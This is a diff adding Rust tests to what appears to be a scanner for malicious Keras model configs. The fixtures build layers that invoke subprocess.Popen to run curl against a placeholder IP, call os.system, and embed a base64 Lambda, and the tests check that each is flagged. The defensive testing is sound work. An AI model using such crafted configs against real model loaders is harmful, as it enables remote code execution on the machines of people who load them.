@@ -37,6 +37,35 @@ fn a_module_of_the_standard_library_is_named() {
 }
 
 #[test]
+fn what_a_node_hands_to_a_function_is_part_of_the_verdict() {
+    let layer = |module: &str, name: &str, given: serde_json::Value| {
+        json!({"module": module, "class_name": "function", "config": name,
+            "inbound_nodes": [{"args": given, "kwargs": {"bufsize": -1}}]})
+    };
+    let outcome =
+        scan(&model(&layer("subprocess", "Popen", json!([["curl", "http://203.0.113.7/x"]]))).to_string());
+    let worst = &outcome.findings[0];
+    assert_eq!((worst.rule.id, worst.severity), ("model/keras-foreign-module", Severity::Critical));
+    assert!(
+        worst.message.contains("runs `curl`") && worst.message.contains("203.0.113.7"),
+        "{}",
+        worst.message
+    );
+    let harmless = layer("os", "system", json!(["true"]));
+    assert_eq!(worst_of(&harmless), Some(Severity::Critical));
+    let package = json!({"module": "my_package.io", "class_name": "fetch", "registered_name": "my_package>fetch",
+        "config": {"source": "http://203.0.113.7/x"}});
+    assert_eq!(worst_of(&package), Some(Severity::High));
+    let layer = json!({"module": "my_package.io", "class_name": "Blend", "registered_name": "my_package>Blend",
+        "config": {"source": "left"}});
+    assert_eq!(worst_of(&layer), Some(Severity::Medium));
+}
+
+fn worst_of(layer: &serde_json::Value) -> Option<Severity> {
+    worst(&model(layer)).map(|(_, severity)| severity)
+}
+
+#[test]
 fn a_registered_class_of_a_package_is_only_remarked() {
     let layer = json!({"module": "my_package.layers", "class_name": "Blend", "config": {},
         "registered_name": "my_package>Blend"});
@@ -134,6 +163,27 @@ fn an_escaped_key_and_a_wide_encoding_are_read_as_the_loader_reads_them() {
     let outcome =
         crate::scan(&Input::new("config.json", &wide), &Limits::default(), &MonotonicClock::start());
     assert_eq!(outcome.format, Some("keras-config"));
+}
+
+#[test]
+fn a_damaged_root_does_not_hide_the_layers_in_it() {
+    let layer = json!({"class_name": "Lambda", "config": {"function": ["bGFtYmRhIHg6IHg=", null, null]}});
+    let text = model(&layer).to_string();
+    // A bit of each byte of the root's own keys.
+    for key in ["\"class_name\":\"Seq", "\"config\":{\"layers"] {
+        let start = text.find(key).unwrap();
+        for at in start + 1..start + 7 {
+            let mut damaged = text.clone().into_bytes();
+            damaged[at] ^= 1;
+            let outcome = crate::scan(
+                &Input::new("config.json", &damaged),
+                &Limits::default(),
+                &MonotonicClock::start(),
+            );
+            let worst = outcome.findings.iter().map(|finding| finding.severity).max();
+            assert!(worst >= Some(Severity::High), "{}: {worst:?}", String::from_utf8_lossy(&damaged));
+        }
+    }
 }
 
 #[test]
